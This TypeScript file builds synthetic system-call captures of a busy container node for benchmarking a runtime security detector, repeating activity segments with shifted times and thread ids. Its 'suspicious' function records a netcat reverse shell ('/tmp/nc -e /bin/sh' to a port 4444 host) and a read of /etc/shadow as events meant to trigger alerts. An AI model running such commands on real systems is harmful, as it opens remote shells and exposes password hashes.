/**
 * A moment of a busy node as blocks of a capture, and where in them to write
 * other times, threads and names, so that repeating it makes a long capture in
 * which processes start and files have names of their own.
 */
import {
  Activity,
  containerRecord,
  FIRST_NEW_TID,
  NEW_TIDS,
  NS_PER_EVENT,
  NUMBER_MARK,
  REPORT,
  SERVER_CONTAINER,
  START_NS,
  THREADS,
} from './capture-activity.ts';
import { GENERATIONS, ScapWriter } from './scap/writer.ts';
import { offsetsOf, type Segment } from './segment.ts';

/**
 * `security`: programs start, files are opened, servers connect, and little else.
 * `mixed`: mostly reads and writes. `all`: calls of many kinds.
 * `unique`: as mixed, but no two events name the same file or command line.
 */
export type CaptureMix = 'security' | 'mixed' | 'all' | 'unique';

/** Makes the segment. */
export function captureSegment(mix: CaptureMix): Segment {
  const activity = new Activity(mix === 'unique');
  // The first events break policies and match rules, to see when the first alert comes.
  suspicious(activity);
  MIXES[mix](activity);
  return repeatable(headOf(), activity);
}

const MIXES: Readonly<Record<CaptureMix, (activity: Activity) => void>> = {
  security(activity) {
    for (let i = 0; i < 40; i++) {
      activity.startProgram(REPORT);
      activity.connect('10.20.0.21', 5432);
      activity.readFile(`/app/settings/${i}.conf`);
      activity.serve(1);
      activity.tidy();
    }
  },
  mixed(activity) {
    for (let i = 0; i < 12; i++) {
      activity.archive(5);
      activity.serve(3);
      activity.idle(20);
    }
    activity.startProgram(REPORT);
    activity.archive(10);
    activity.startProgram(REPORT);
    activity.connect('10.20.0.21', 5432);
    activity.tidy();
  },
  all(activity) {
    for (let i = 0; i < 12; i++) {
      activity.archive(2);
      activity.serve(3);
      activity.otherCalls(5);
      activity.idle(5);
    }
    activity.startProgram(REPORT);
    activity.connect('10.20.0.21', 5432);
    activity.tidy();
  },
  unique(activity) {
    for (let i = 0; i < 12; i++) {
      activity.archive(5);
      activity.serve(3);
      activity.startProgram(REPORT);
    }
    activity.tidy();
  },
};

/** What an intruder does, and what the policy of the benchmarks forbids. */
function suspicious(activity: Activity): void {
  activity.startContainer();
  activity.startProgram({ path: '/tmp/nc', arguments: ['-e', '/bin/sh', '10.1.2.3', '4444'], uid: 10_001 });
  activity.readFile('/etc/shadow');
  activity.connect('203.0.113.66', 4444);
}

function headOf(): Buffer {
  const head = new ScapWriter(GENERATIONS['2018-08']).section().machine('node-1');
  head.users([{ uid: 0, gid: 0, name: 'root', home: '/root', shell: '/bin/bash' }]);
  const { host, shim, server } = THREADS;
  const ids = { uid: 10_001, gid: 10_001, vtid: 1, vpid: 1, cgroups: SERVER_CONTAINER.cgroups };
  head.processes([
    { tid: 1, ptid: 0, comm: 'systemd' },
    { tid: host, comm: 'tar', exe: '/usr/bin/tar', exepath: '/usr/bin/tar', args: ['c', '/var'], cwd: '/var' },
    { tid: shim, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim', exepath: '/usr/bin/containerd-shim' },
    { tid: server, ptid: shim, comm: 'server', exe: '/app/server', exepath: '/app/server', cwd: '/app', ...ids },
  ]);
  const values = { json: containerRecord(SERVER_CONTAINER, 'shop', []) };
  return head.event({ type: 'container >', time: START_NS, tid: -1, values }).bytes();
}

/** Every block begins with type and length; an event's time follows its cpu. */
function timeOffsets(bytes: Buffer): number[] {
  const offsets: number[] = [];
  for (let at = 0; at < bytes.length; at += bytes.readUInt32LE(at + 4)) {
    offsets.push(at + 10);
  }
  return offsets;
}

/** Wherever the 8 bytes of a new thread's id are: in headers and in parameters. */
function tidOffsets(bytes: Buffer): number[] {
  return Array.from({ length: NEW_TIDS }, (_, index) => {
    const pattern = Buffer.alloc(8);
    pattern.writeBigUInt64LE(BigInt(FIRST_NEW_TID + index));
    return offsetsOf(bytes, pattern);
  }).flat();
}

function repeatable(head: Buffer, activity: Activity): Segment {
  const { eventCount, tidCount } = activity;
  const bytes = activity.bytes();
  const [times, tids, numbers] = [timeOffsets(bytes), tidOffsets(bytes), offsetsOf(bytes, NUMBER_MARK)];
  const firstTimes = times.map((offset) => bytes.readBigUInt64LE(offset));
  const firstTids = tids.map((offset) => bytes.readUInt32LE(offset));
  const durationNs = BigInt(eventCount) * NS_PER_EVENT;
  const repetition = (index: number): Buffer => {
    const laterNs = durationNs * BigInt(index);
    for (const [i, offset] of times.entries()) {
      bytes.writeBigUInt64LE(firstTimes[i]! + laterNs, offset);
    }
    for (const [i, offset] of tids.entries()) {
      bytes.writeUInt32LE(firstTids[i]! + tidCount * index, offset);
    }
    const digits = String(index).padStart(NUMBER_MARK.length, '0');
    for (const offset of numbers) {
      bytes.write(digits, offset, 'latin1');
    }
    return bytes;
  };
  return { head, headEventCount: 1, eventCount, byteCount: bytes.length, repetition };
}
